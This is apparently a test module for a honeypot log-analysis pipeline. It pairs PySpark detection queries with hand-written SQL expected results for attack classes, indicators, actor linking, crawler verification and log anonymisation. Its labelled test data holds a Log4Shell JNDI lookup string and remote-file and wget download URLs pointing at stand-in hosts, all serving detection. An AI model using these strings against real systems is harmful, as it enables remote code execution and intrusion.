"""Registered queries about payloads, actors, identity, publication and streams, and their SQL.

What the rules should find in the log's seven payloads is typed by hand, so the SQL is independent of the patterns.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from datetime import date

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .catalog import LOG, NOW, SESSION_SQL, Query, add, text
from .functions import fingerprint, match
from .functions.decode import url_layers
from .functions.webapp import web_shape
from .operators import actors, attacks, contents, identity, indicators, profiles, sessions, traps
from .operators import robots as robots_ops
from .plans import derived, publish, report
from .shared import shared_dir
from .sources import log as source
from .streaming import live

LABELS = LOG + """,
labels(pay_k, cls, location, decoded, layers) AS (VALUES (0,'sqli','query:id',true,2),(1,'lfi','query:file',false,1),(2,'xss','query:q',true,2),(3,'rfi','query:page',false,1),
  (5,'log4shell','query:v',true,2),(6,'cmd_injection','query',false,1)),
told(pay_k, what, value) AS (VALUES (3,'url','http://evil.test/shell.txt?'),(6,'url','http://x.test/a.sh'),(6,'downloader','wget'),(5,'jndi','${jndi:ldap://zz.oast.pro/a}')),
hits AS (SELECT log.*, cls, location, decoded FROM log JOIN labels USING (pay_k) WHERE raw_query IS NOT NULL),
found AS (SELECT log.*, what, value FROM log JOIN told USING (pay_k) WHERE raw_query IS NOT NULL)
"""


def requests(spark: SparkSession, d: str) -> DataFrame:
    log = derived.log(spark, d).where("kind = 'request'")
    none = F.lit(None).cast("string")
    return log.withColumns({"rid": F.col("event_id").cast("string"), "raw_path": F.col("path"), "headers": F.array(F.array(F.lit("User-Agent"), F.col("ua"))), "body": none, "body_encoding": none})


def findings(asked: DataFrame) -> DataFrame:
    """rid and what the scanners find in requests."""
    wanted = "struct<wallets map<string,array<string>>, pools array<string>, urls array<string>, miners array<string>, downloaders array<string>, jndi array<string>, jndi_obfuscated boolean, shellshock boolean, metadata_ssrf boolean, decoded_layers int, url_decoded_layers int>"
    found = indicators.scan_requests(asked)
    found = found.select("rid", F.struct("wallets", "pools", "urls", "miners", "downloaders", "jndi", "jndi_obfuscated", "shellshock", "metadata_ssrf", "decoded_layers", "url_decoded_layers").cast(wanted).alias("indicators"))
    return attacks.attacks_of(asked).join(attacks.tools_of(asked), "rid", "full").join(attacks.oast_domains(asked), "rid", "full").join(found, "rid", "full")


def enriched(spark: SparkSession, d: str) -> DataFrame:
    """The log with what the scanners find in its requests."""
    none = F.lit(None).cast("string")
    log = derived.log(spark, d).withColumns({"rid": F.col("event_id").cast("string"), "raw_path": F.col("path"), "headers": F.array(F.array(F.lit("User-Agent"), F.col("ua"))), "body": none, "body_encoding": none})
    found = contents.written_with_found(log, F.col("kind") == "request", findings, "raw_path", "headers", "body", "body_encoding")
    return found.withColumn("body_sha256", none)


def on_requests(f: Callable[[DataFrame], DataFrame]) -> Query:
    return lambda spark, d: f(requests(spark, d))


def on_payloads(f: Callable[[DataFrame], DataFrame]) -> Query:
    return lambda spark, d: f(profiles.payloads(enriched(spark, d)))


# -- decoding and indicators (2D)
add("D1_url_layers", on_requests(lambda r: r.where("raw_query is not null").groupBy(F.size(url_layers(F.col("raw_query"))).alias("layers")).agg(F.count("*").alias("n"))), LABELS + "SELECT coalesce(layers, 1) AS layers, count(*) AS n FROM log LEFT JOIN labels USING (pay_k) WHERE raw_query IS NOT NULL GROUP BY 1")
add("D6_urls", on_requests(lambda r: r.where("raw_query is not null").select("event_id", F.explode(indicators.urls(url_layers(F.col("raw_query")))).alias("url"))), LABELS + "SELECT event_id, value AS url FROM found WHERE what = 'url'")
add("D9_downloaders", on_requests(lambda r: r.where("raw_query is not null").select("event_id", F.explode(indicators.downloaders(url_layers(F.col("raw_query")))).alias("name"))), LABELS + "SELECT event_id, value AS name FROM found WHERE what = 'downloader'")
add("D10_jndi", on_requests(lambda r: text("rid", "jndi")(indicators.scan_requests(r).where(F.size("jndi") > 0))), LABELS + "SELECT CAST(event_id AS VARCHAR) AS rid, value AS jndi FROM found WHERE what = 'jndi'")
add("D15_scan", on_requests(lambda r: text("rid", "urls", "downloaders", "indicator_locations", "decoded_layers", "url_decoded_layers")(indicators.scan_requests(r))), LABELS + "SELECT CAST(event_id AS VARCHAR) AS rid, coalesce(max(value) FILTER (what = 'url'), '') AS urls, coalesce(max(value) FILTER (what = 'downloader'), '') AS downloaders, 'query' AS indicator_locations, 0 AS decoded_layers, CASE WHEN max(pay_k) = 5 THEN 1 ELSE 0 END AS url_decoded_layers FROM found GROUP BY 1")
add("D16_exploits", on_requests(lambda r: indicators.scan_requests(r).select(F.explode(indicators.exploit_flags(F.col("jndi"), F.col("shellshock"), F.col("metadata_ssrf"))).alias("exploit")).groupBy("exploit").agg(F.count("*").alias("requests"))), LABELS + "SELECT 'log4shell' AS exploit, count(*) AS requests FROM found WHERE what = 'jndi'")

# -- attacks (2E)
add("E1_pair_units", on_requests(lambda r: r.where("raw_query is not null").select("event_id", F.explode(attacks.pair_units(F.col("raw_query"), "query")).alias("u")).groupBy("u.location", F.col("u.text").contains("+").alias("plus")).agg(F.count("*").alias("n"))), LABELS + "SELECT coalesce(location, 'query:q') AS location, false AS plus, count(*) AS n FROM log LEFT JOIN labels USING (pay_k) WHERE raw_query IS NOT NULL GROUP BY 1")
add("E4_units", on_requests(lambda r: attacks.attack_units(r).groupBy("kind").agg(F.count("*").alias("n"))), LABELS + "SELECT unnest(['path', 'header']) AS kind, count(*) AS n FROM log WHERE kind = 'request' GROUP BY 1 UNION ALL SELECT 'query', count(*) FROM log WHERE raw_query IS NOT NULL")
add("E14_labels", on_requests(lambda r: attacks.classify(attacks.attack_units(r)).select("rid", "cls", "location", "decoded", "cve")), LABELS + "SELECT CAST(event_id AS VARCHAR) AS rid, cls, location, decoded, CAST(NULL AS VARCHAR) AS cve FROM hits")
for _id, _cls in (("E7_log4shell", "log4shell"), ("E8_lfi", "lfi"), ("E9_rfi", "rfi"), ("E11_cmd_injection", "cmd_injection"), ("E12_sqli", "sqli"), ("E13_xss", "xss")):
    add(_id, on_requests(lambda r, c=_cls: attacks.classify(attacks.attack_units(r)).where(F.col("cls") == c).select("rid", "location")), LABELS + f"SELECT CAST(event_id AS VARCHAR) AS rid, location FROM hits WHERE cls = '{_cls}'")
add("E16_tools", on_requests(lambda r: attacks.tools_of(r).select("rid", F.explode("tools").alias("t")).select("rid", "t.name", "t.kind")), LOG + "SELECT CAST(event_id AS VARCHAR) AS rid, 'redtail' AS name, 'botnet' AS kind FROM log WHERE kind = 'request' AND ua_k = 9")
add("E17_callbacks", on_requests(lambda r: text("rid", "oast")(attacks.oast_domains(r))), LOG + "SELECT CAST(event_id AS VARCHAR) AS rid, 'zz.oast.pro' AS oast FROM log WHERE raw_query IS NOT NULL AND pay_k = 5")
add("E21_location_kind", on_requests(lambda r: attacks.classify(attacks.attack_units(r)).groupBy(match.location_kind(F.col("location")).alias("kind")).agg(F.count("*").alias("n"))), LABELS + "SELECT 'query' AS kind, count(*) AS n FROM hits")

# -- what clients and actors carried (2H, 2I, 2K)
add("H15_indicators", on_payloads(text("client_ua", "client_claimed", "payload_urls", "exploits")), LABELS + "SELECT client_ua, client_claimed, coalesce(string_agg(DISTINCT CASE WHEN what = 'url' THEN value END, ',' ORDER BY CASE WHEN what = 'url' THEN value END), '') AS payload_urls, CASE WHEN bool_or(what = 'jndi') THEN 'log4shell' ELSE '' END AS exploits FROM log LEFT JOIN told ON log.pay_k = told.pay_k AND raw_query IS NOT NULL WHERE kind = 'request' GROUP BY ALL")
add("H16_attack_classes", on_payloads(lambda p: p.select("client_ua", "client_claimed", F.explode("attack_classes").alias("cls", "requests"))), LABELS + "SELECT client_ua, client_claimed, cls, count(*) AS requests FROM hits GROUP BY ALL")
add("H17_tools", on_payloads(lambda p: p.select("client_ua", "client_claimed", F.explode("tools").alias("name", "kind"))), LOG + "SELECT DISTINCT client_ua, client_claimed, 'redtail' AS name, 'botnet' AS kind FROM log WHERE kind = 'request' AND ua_k = 9")
add("K9_indicators", on_payloads(report.indicators), LABELS + "SELECT DISTINCT client_ua, client_claimed, 'url' AS type, value FROM found WHERE what = 'url'")
add("K11_exploits", on_payloads(report.exploits), LABELS + "SELECT 'log4shell' AS exploit, count(DISTINCT (client_ua, client_claimed)) AS clients FROM found WHERE what = 'jndi'")
add("K12_attack_totals", lambda spark, d: report.attack_totals(enriched(spark, d)), LABELS + "SELECT count(DISTINCT event_id) AS requests, count(DISTINCT ip) AS addresses, count(DISTINCT event_id) FILTER (decoded) AS decoded FROM hits")
add("K12_attack_classes", on_payloads(report.attack_classes), LABELS + "SELECT cls, count(*) AS requests, count(DISTINCT (client_ua, client_claimed)) AS clients FROM hits GROUP BY 1")
add("K13_attack_locations", on_payloads(report.attack_locations), LABELS + "SELECT 'query' AS location, count(*) AS labels FROM hits")
add("K14_cves", on_payloads(report.cves), LABELS + "SELECT cls AS cve, count(*) AS clients FROM hits WHERE false GROUP BY 1")
add("K15_tools", on_payloads(report.tools), LOG + "SELECT 'botnet' AS kind, 'redtail' AS name, count(DISTINCT (client_ua, client_claimed)) AS clients FROM log WHERE kind = 'request' AND ua_k = 9")
add("K16_callbacks", on_payloads(report.callbacks), "SELECT 'zz.oast.pro' AS domain FROM (SELECT 1 FROM events LIMIT 1)")
add("I5_attacks", lambda spark, d: sessions.sessions(enriched(spark, d)).select("actor", F.explode("attack_classes").alias("cls", "requests")), LABELS + "SELECT actor, cls, count(*) AS requests FROM hits WHERE actor IS NOT NULL GROUP BY ALL")
add("I7_indicators", lambda spark, d: sessions.sessions(enriched(spark, d)).select("actor", F.explode("payload_urls").alias("url")), LABELS + "SELECT DISTINCT actor, value AS url FROM found WHERE actor IS NOT NULL AND what = 'url'")


# -- actors (2J)
def actor_indicators(spark: SparkSession, d: str) -> DataFrame:
    log = enriched(spark, d)
    return actors.indicators(sessions.sessions(log), sessions.credential_pairs(log))


STRONG_SQL = LABELS + """,
strong AS (SELECT DISTINCT actor, 'url' AS type, value FROM found WHERE actor IS NOT NULL AND what = 'url'
  UNION SELECT DISTINCT actor, 'domain', regexp_extract(value, '://([^/]*)', 1) FROM found WHERE actor IS NOT NULL AND what = 'url'
  UNION SELECT DISTINCT actor, 'domain', 'zz.oast.pro' FROM log WHERE actor IS NOT NULL AND raw_query IS NOT NULL AND pay_k = 5)
"""
INDICATOR_SQL = STRONG_SQL + """,
every AS (SELECT actor, type, value, 'strong' AS strength FROM strong UNION SELECT DISTINCT actor, 'ip', ip, 'weak' FROM log WHERE actor IS NOT NULL
  UNION SELECT DISTINCT actor, 'tool', 'redtail', 'weak' FROM log WHERE actor IS NOT NULL AND kind = 'request' AND ua_k = 9
  UNION SELECT DISTINCT actor, 'credential', '["' || "user" || '","' || password || '"]', 'weak' FROM log WHERE actor IS NOT NULL AND kind = 'credential')
"""
add("J5_indicators", actor_indicators, INDICATOR_SQL + "SELECT * FROM every")
add("J7_join_keys", lambda spark, d: actors.join_keys(actor_indicators(spark, d)), STRONG_SQL + "SELECT * FROM strong")
add("J7_entities", lambda spark, d: actors.entities(actor_indicators(spark, d)), INDICATOR_SQL.replace("WITH ua_dim", "WITH RECURSIVE ua_dim", 1) + ", link AS (SELECT DISTINCT a.actor AS a, b.actor AS b FROM strong a JOIN strong b USING (type, value)), reach(a, b) AS (SELECT a, b FROM link UNION SELECT r.a, l.b FROM reach r JOIN link l ON r.b = l.a) SELECT e.actor, least(e.actor, coalesce(min(r.b), e.actor)) AS entity FROM (SELECT DISTINCT actor FROM every) e LEFT JOIN reach r ON r.a = e.actor GROUP BY e.actor")
add("J6_records", lambda spark, d: actors.actor_records(s := sessions.sessions(log := enriched(spark, d)), actors.indicators(s, sessions.credential_pairs(log))).select("actor", "sensor.id", "first_seen", "last_seen", "events", F.size("indicators").alias("n_indicators"), F.size("fingerprints").alias("n_fingerprints")), SESSION_SQL + INDICATOR_SQL[len(LOG):] + "SELECT actor, sensors[1] AS id, strftime(first_seen, '%Y-%m-%dT%H:%M:%SZ') AS first_seen, strftime(last_seen, '%Y-%m-%dT%H:%M:%SZ') AS last_seen, event_count AS events, n::INT AS n_indicators, len(ja4s)::INT AS n_fingerprints FROM sess JOIN (SELECT actor, count(*) AS n FROM every GROUP BY 1) USING (actor)")


# -- identity (2G) and the client's actor (2C)
def verdicts(spark: SparkSession, d: str) -> DataFrame:
    claims = derived.log(spark, d).where("kind = 'request'").select("ip", "ua")
    ranges = source.ranges_of(spark.createDataFrame([("OpenAI", ["10.0.0.0/16"]), ("Common Crawl", ["10.9.0.0/16"])], "operator string, cidrs array<string>"))
    dns = claims.distinct().where("ip like '%0'").select("ip", F.lit("crawl.googlebot.com").alias("ptr"), F.array("ip").alias("forward")).dropDuplicates(["ip"])
    return identity.verdicts(claims, ranges, dns).select("ip", "ua", "verdict", "method", "matched_range")


add("G2_verdicts", verdicts, LOG + """SELECT DISTINCT ip, ua, CASE WHEN ua_k = 0 THEN CASE WHEN ip LIKE '10.0.%' THEN 'verified' ELSE 'impersonating' END WHEN ua_k = 4 THEN CASE WHEN ip LIKE '%0' THEN 'verified' ELSE 'unverifiable' END
  WHEN ua_k IN (1, 2, 3) THEN 'unverifiable' ELSE 'undeclared' END AS verdict, CASE WHEN ua_k IN (0, 1) THEN 'cidr' WHEN ua_k = 4 THEN 'rdns' ELSE 'none' END AS method,
  CASE WHEN ua_k = 0 AND ip LIKE '10.0.%' THEN '10.0.0.0/16' END AS matched_range FROM log WHERE kind = 'request'""")
add("G5_claims", lambda spark, d: identity.dedupe_claims(derived.log(spark, d).where("claimed_crawler is not null").select("ip", F.col("claimed_crawler").alias("claim"), "ts")), LOG + "SELECT ip, claimed_crawler AS claim, min(ts) AS ts FROM log WHERE claimed_crawler IS NOT NULL GROUP BY 1, 2")


def actor_ids(spark: SparkSession, d: str) -> DataFrame:
    actor, basis = fingerprint.actor_id(b"query", F.col("ip"), F.col("ja4"), F.col("ua"))
    ids = derived.log(spark, d).select(actor.alias("id"), basis.alias("basis"), "ip", "ja4", "ua")
    return ids.groupBy("id", "basis").agg(F.count("*").alias("events")).groupBy("basis").agg(F.count("*").alias("actors"), F.sum("events").alias("events"))


add("C19_actor_ids", actor_ids, LOG + "SELECT CASE WHEN ja4 IS NULL THEN 'header_order' ELSE 'ja4' END AS basis, count(DISTINCT (ip, coalesce(ja4, ua))) AS actors, count(*) AS events FROM log GROUP BY 1")
add("C18_stable_hits", lambda spark, d: traps.stable_traps(derived.log(spark, d).where("kind = 'request'").drop("standard", "disallowed"), robots_ops.published_rules(spark)).select("event_id", "standard", "disallowed"), LOG + "SELECT event_id, 'stable_disallow_unlinked' AS standard, true AS disallowed FROM log WHERE kind = 'request' AND path_k = 7")


# -- files and publication (2A, 2N)
def names(spark: SparkSession, d: str) -> DataFrame:
    days = derived.log(spark, d).select(F.date_format("ts", "yyyy-MM-dd").alias("day")).distinct()
    return days.select(F.explode(F.array(F.concat("day", F.lit(".jsonl")), F.concat("day", F.lit(".jsonl.gz")), F.concat(F.lit("tls-"), "day", F.lit(".jsonl.gz")))).alias("file"))


DAYS_SQL = LOG + ", days AS (SELECT DISTINCT strftime(ts, '%Y-%m-%d') AS day FROM log)"
add("A4_day_files", lambda spark, d: source.choose_files(names(spark, d)).select("file", "stream", "day", "gz"), DAYS_SQL + " SELECT day || '.jsonl' AS file, 'events' AS stream, day, false AS gz FROM days UNION ALL SELECT 'tls-' || day || '.jsonl.gz', 'tls', day, true FROM days")
add("A10_pending", lambda spark, d: source.pending_days(source.choose_files(names(spark, d)), spark.createDataFrame([("tls", "2024-01-02")], "stream string, day string"), NOW).select("stream", "day"), DAYS_SQL + f" SELECT stream, day FROM days, (VALUES ('events'), ('tls')) s(stream) WHERE day::DATE + INTERVAL 25 HOUR <= TIMESTAMP '{NOW}' AND NOT (stream = 'tls' AND day = '2024-01-02')")
add("A11_lifecycle", lambda spark, d: source.lifecycle_plan(names(spark, d), 2, 9, date(2024, 1, 20)), DAYS_SQL + " SELECT file, age, CASE WHEN age > 9 THEN 'delete' WHEN age >= 2 AND file NOT LIKE '%.gz' THEN 'compress' END AS action FROM (SELECT unnest([day || '.jsonl', day || '.jsonl.gz', 'tls-' || day || '.jsonl.gz']) AS file, (DATE '2024-01-20' - day::DATE)::INT AS age FROM days)")


def hidden(spark: SparkSession, d: str) -> DataFrame:
    log = enriched(spark, d).withColumns({"headers": F.array(F.array(F.lit("Cookie"), F.lit("c")), F.array(F.lit("X-Real-IP"), F.col("ip"))), "body": F.lit("b"), "body_encoding": F.lit("utf-8"), "rdns": F.lit(None).cast("string")})
    out = publish.anonymize(log, "salt")
    cookie, real = F.col("headers")[0][1], F.col("headers")[1][1]
    return out.groupBy("kind", (cookie == "[redacted]").alias("cookie_hidden"), F.col("body").isNull().alias("body_hidden"), (F.col("password") == "[redacted]").alias("password_hidden"), (real == F.col("ip")).alias("same_pseudonym")).agg(F.count("*").alias("n"), F.countDistinct("ip").alias("addresses"))


add("N9_anonymize", hidden, LABELS + "SELECT kind, (kind = 'request' AND hit IS NULL) OR kind = 'credential' AS cookie_hidden, kind = 'request' AND hit IS NULL AS body_hidden, CASE WHEN kind = 'credential' THEN true END AS password_hidden, true AS same_pseudonym, count(*) AS n, count(DISTINCT ip) AS addresses FROM log LEFT JOIN (SELECT event_id, 1 AS hit FROM hits) USING (event_id) GROUP BY ALL")


# -- streams (2S)
def stream_days(spark: SparkSession, d: str) -> DataFrame:
    """Events by day over a stream of the events table: days that the watermark has closed."""
    events = spark.read.parquet(f"{d}/events.parquet")
    stream = spark.readStream.schema(events.schema).parquet(f"{d}/events.parquet*").select(F.col("ts").cast("timestamp").alias("ts"), F.col("event_type").alias("kind"))
    out = materialise_stream(live.daily_counts(stream))
    return out.select("day", "kind", "events")


def materialise_stream(df: DataFrame) -> DataFrame:
    """Runs a stream over what is there into a table in the shared folder."""
    path = f"{shared_dir(df.sparkSession)}/{uuid.uuid4().hex}"
    run = df.writeStream.format("parquet").option("path", f"{path}/out").option("checkpointLocation", f"{path}/state").trigger(availableNow=True).start()
    run.awaitTermination()
    return df.sparkSession.read.schema(df.schema).parquet(f"{path}/out")


add("S2_daily_counts", stream_days, "SELECT date_trunc('day', ts)::TIMESTAMP AS day, event_type AS kind, count(*) AS events FROM events WHERE date_trunc('day', ts) + INTERVAL 1 DAY <= (SELECT max(ts) FROM events) - INTERVAL 60 MINUTE GROUP BY 1, 2")


def stream_log(spark: SparkSession, d: str) -> DataFrame:
    return derived.log(spark, d, stream=True).withColumn("ts", F.col("ts").cast("timestamp")).drop("seq")


def stream_stages(spark: SparkSession, d: str) -> DataFrame:
    with live.only_data(spark):
        rises = materialise_stream(live.live_sessions(stream_log(spark, d)))
    return rises.groupBy("actor").agg(F.max_by("stage", sessions.stage_rank(F.col("stage"))).alias("stage"))


def stream_fetches(spark: SparkSession, d: str) -> DataFrame:
    found = materialise_stream(live.live_read_fetch_counts(stream_log(spark, d), stream_log(spark, d)))
    return found.groupBy("token").agg(F.sum("pairs").alias("pairs"), F.sum("split").alias("split"))


add("S5_live_stages", stream_stages, SESSION_SQL + "SELECT actor, stage_reached AS stage FROM sess")
add("S6_read_fetch", stream_fetches, LOG + "SELECT r.token, count(*) AS pairs, count(*) FILTER (r.ip <> h.ip) AS split FROM log r JOIN log h ON r.token = h.token AND h.ts >= r.ts AND h.ts <= r.ts + INTERVAL 1 DAY WHERE r.kind = 'policy_read' AND h.kind = 'trap_hit' GROUP BY 1")

def stream_rolling(spark: SparkSession, d: str) -> DataFrame:
    """Two days each, of windows that the watermark has closed; the approximate count of actors is left out."""
    return materialise_stream(live.rolling_digest(stream_log(spark, d), 2)).drop("actors")


def stream_claims(spark: SparkSession, d: str) -> DataFrame:
    claims = stream_log(spark, d).select("ts", "ip", F.col("claimed_crawler").alias("claimed")).where("claimed is not null")
    return materialise_stream(live.dedupe_claims(claims, "60 days")).select("ip", "claimed")


add("S3_rolling_digest", stream_rolling, LOG + "SELECT s::TIMESTAMP AS since, (s + INTERVAL 2 DAY)::TIMESTAMP AS until, count(*) AS events, count(*) FILTER (kind = 'request') AS requests, count(*) FILTER (kind = 'credential') AS credential_attempts FROM (SELECT kind, unnest([date_trunc('day', ts), date_trunc('day', ts) - INTERVAL 1 DAY]) AS s FROM log) WHERE s + INTERVAL 2 DAY <= (SELECT max(ts) FROM log) - INTERVAL 60 MINUTE GROUP BY s")
add("S4_claims_once", stream_claims, LOG + "SELECT DISTINCT ip, claimed_crawler AS claimed FROM log WHERE claimed_crawler IS NOT NULL")

# -- further expressions over fields that the log yields
add("B11_persona", lambda spark, d: derived.log(spark, d).groupBy("kind", match.persona(F.lit(None).cast("string"), F.col("path")).alias("persona")).agg(F.count("*").alias("n")), LOG + "SELECT kind, CASE WHEN kind = 'hunt' THEN family ELSE 'site' END AS persona, count(*) AS n FROM log GROUP BY ALL")


def header_fields(spark: SparkSession, d: str) -> DataFrame:
    """Signals and flags of the header names that the log implies."""
    names = F.array_compact(F.array(F.lit("host"), F.lit("user-agent"), F.when(F.col("conditional"), F.lit("if-none-match")), F.when(F.col("event_id") % 2 == 0, F.lit("accept-encoding"))))
    rows = requests(spark, d).withColumn("order", names)
    flags = fingerprint.header_flags(F.col("order"))
    found = rows.select(F.array_join(fingerprint.signals(F.col("ua"), F.col("order"), F.lit("1.1")), ",").alias("signals"), flags["conditional"].alias("conditional"), fingerprint.browser_score(F.col("order")).alias("score"))
    return found.groupBy("signals", "conditional", "score").agg(F.count("*").alias("n"))


add("C5_signals", header_fields, LOG + "SELECT array_to_string(list_filter([CASE WHEN ua_k = 5 THEN 'browser_claim_thin_headers' END, CASE WHEN ua_k = 10 THEN 'no_user_agent' END, CASE WHEN event_id % 2 = 1 THEN 'no_accept_encoding' END], lambda x: x IS NOT NULL), ',') AS signals, conditional, CASE WHEN event_id % 2 = 0 THEN 1 ELSE 0 END AS score, count(*) AS n FROM log WHERE kind = 'request' GROUP BY ALL")
add("C11_web_shape", on_requests(lambda r: r.select(web_shape(F.lit("GET"), F.col("path"), F.col("raw_query"), F.lit(None).cast("string"), F.col("body")).alias("w")).groupBy(F.col("w.kind").alias("shape"), F.array_join("w.mitre", ",").alias("mitre")).agg(F.count("*").alias("n"))), LOG + "SELECT CASE WHEN raw_query IS NULL THEN 'browse' WHEN pay_k = 0 THEN 'sqli' WHEN pay_k = 1 THEN 'path_traversal' ELSE 'browse' END AS shape, CASE WHEN raw_query IS NULL THEN '' WHEN pay_k = 0 THEN 'T1190' WHEN pay_k = 1 THEN 'T1083,T1006' ELSE '' END AS mitre, count(*) AS n FROM log WHERE kind = 'request' GROUP BY ALL")
add("C15_trap_token", lambda spark, d: derived.log(spark, d).select("event_id", match.trap_token(F.concat(F.lit("/internal/"), F.lpad(F.col("event_id").cast("string"), 24, "0"), F.when(F.col("event_id") % 2 == 0, F.lit("_-")).otherwise(F.lit("")), F.lit("/x.html"))).alias("token")), LOG + "SELECT event_id, CASE WHEN event_id % 2 = 0 THEN lpad(CAST(event_id AS VARCHAR), 24, '0') || '_-' END AS token FROM log")


def hellos(spark: SparkSession, d: str) -> DataFrame:
    """JA4 of TLS hellos whose second cipher varies with the event."""
    c = F.array(F.lit(0x1301), F.lit(0x0A0A), (F.lit(0x1302) + F.col("event_id") % 3).cast("int"))
    ja4 = fingerprint.ja4(c, F.array(F.lit(16), F.lit(43)), F.array().cast("array<int>"), F.array(F.lit("h2")), F.lit(None).cast("string"), F.array(F.lit(0x0304)), F.lit(0x0303))
    return derived.log(spark, d).groupBy(ja4.alias("ja4")).agg(F.count("*").alias("n"))


add("C20_ja4", hellos, LOG + "SELECT 't13i0202h2_' || substr(sha256('1301,130' || (2 + event_id % 3)), 1, 12) || '_' || substr(sha256('002b'), 1, 12) AS ja4, count(*) AS n FROM log GROUP BY 1")


def robots_texts(spark: SparkSession, d: str) -> DataFrame:
    """Rules of one robots text per user of the log."""
    u = F.col("user_id").cast("string")
    files = derived.log(spark, d).select(F.concat(F.lit("f"), u).alias("file_id"), F.concat(F.lit("# of "), u, F.lit("\nUser-agent: bot"), u, F.lit("\nUser-Agent: *\nDisallow: /p"), u, F.lit(" # no\n\nAllow:/\n")).alias("text")).distinct()
    return robots_ops.parse_robots(files)


add("F1_parse_robots", robots_texts, LOG + ", f AS (SELECT DISTINCT user_id AS u FROM log) SELECT 'f' || u AS file_id, 1 AS group_id, agent, directive, CASE directive WHEN 'allow' THEN '/' ELSE '/p' || u END AS pattern FROM (SELECT u, unnest(['bot' || u, '*']) AS agent FROM f), (VALUES ('allow'), ('disallow')) v(directive)")
add("A1_kinds", lambda spark, d: derived.log(spark, d).where(F.col("kind").isin("request", "hunt")).select("kind", "event_id"), LOG + "SELECT kind, event_id FROM log WHERE kind IN ('request', 'hunt')")
